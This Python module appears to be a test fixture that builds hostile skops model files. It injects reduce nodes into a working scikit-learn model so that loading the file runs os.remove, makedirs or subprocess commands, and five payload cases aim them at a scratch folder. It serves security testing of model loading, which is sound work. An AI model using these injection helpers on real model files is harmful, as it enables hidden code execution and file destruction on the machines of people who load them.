"""Hostile `model.skops` files (issue #20): a working scikit-learn model whose state also holds a reduce
node naming a plain function that a scikit-learn module re-exports (`sklearn.datasets._lfw.remove` is
`os.remove`). skops rebuilds such a node with `getattr(import_module(module), name)(*args)`, so loading
the file calls the function; the model itself still loads and predicts, so nothing else looks wrong."""

from __future__ import annotations

import io
import json
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import skops.io as sio


def _state(value: Any) -> dict[str, Any]:
    """skops' own state of a plain value (a tuple of strings and lists), without memo ids: they could
    collide with the host file's."""
    with zipfile.ZipFile(io.BytesIO(sio.dumps(value))) as zf:
        state = json.loads(zf.read("schema.json"))

    def strip(node: Any) -> Any:
        if isinstance(node, dict):
            return {k: strip(v) for k, v in node.items() if k not in {"__id__", "protocol", "_skops_version"}}
        if isinstance(node, list):
            return [strip(v) for v in node]
        return node

    return strip(state)


def reduce_node(module: str, name: str, args: tuple, loader: str = "ConstructorFromReduceNode") -> dict:
    """A node that calls `module.name(*args)` when loaded (skops' ConstructorFromReduceNode, or its
    LossNode, which calls the named constructor the same way)."""
    node: dict[str, Any] = {"__class__": name, "__module__": module, "__loader__": loader}
    if loader == "LossNode":
        node["__reduce__"] = {"args": _state(args)}
        node["content"] = _state({})
    else:
        node["content"] = _state(args)
    return node


def inject(skops_file: Path, node: dict[str, Any], attribute: str = "fitted_hook_") -> None:
    """Rewrite a dumped estimator (or pipeline) so that one more attribute of its state is `node`."""
    with zipfile.ZipFile(skops_file) as zf:
        entries = {n: zf.read(n) for n in zf.namelist()}
    schema = json.loads(entries["schema.json"])
    attrs = schema["content"]  # the estimator's __dict__: a DictNode, with one key type per key
    attrs["content"][attribute] = node
    attrs["key_types"]["content"].append(dict(attrs["key_types"]["content"][0]))
    entries["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(skops_file, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)


def _write_marker(path: Path) -> str:
    return f"open({str(path)!r}, 'w').write('pwned')"


# (case id, what it does, the type skops lists, the payload for a scratch folder `tmp`)
PAYLOADS: list[tuple[str, str, Callable[[Path], dict]]] = [
    (
        "os-remove",
        "sklearn.datasets._lfw.remove",
        lambda tmp: reduce_node("sklearn.datasets._lfw", "remove", (str(tmp / "victim.txt"),)),
    ),
    (
        "os-makedirs",
        "sklearn.datasets._base.makedirs",
        lambda tmp: reduce_node("sklearn.datasets._base", "makedirs", (str(tmp / "planted"),)),
    ),
    (
        "subprocess-check-output",
        "sklearn.utils._testing.check_output",
        lambda tmp: reduce_node(
            "sklearn.utils._testing", "check_output", ([sys.executable, "-c", _write_marker(tmp / "marker")],)
        ),
    ),
    (
        "python-source-via-test-helper",
        "sklearn.utils._testing.assert_run_python_script_without_output",
        lambda tmp: reduce_node(
            "sklearn.utils._testing",
            "assert_run_python_script_without_output",
            (_write_marker(tmp / "marker"),),
        ),
    ),
    (
        "os-remove-through-a-loss-node",
        "sklearn.datasets._california_housing.remove",
        lambda tmp: reduce_node(
            "sklearn.datasets._california_housing", "remove", (str(tmp / "victim.txt"),), loader="LossNode"
        ),
    ),
]


def scene(tmp: Path) -> Path:
    """A scratch folder with the file a payload deletes; returns it."""
    tmp.mkdir(parents=True, exist_ok=True)
    (tmp / "victim.txt").write_text("keep me")
    return tmp


def untouched(tmp: Path) -> bool:
    """Nothing any payload does has happened in `tmp`."""
    return (tmp / "victim.txt").is_file() and not (tmp / "planted").exists() and not (tmp / "marker").exists()
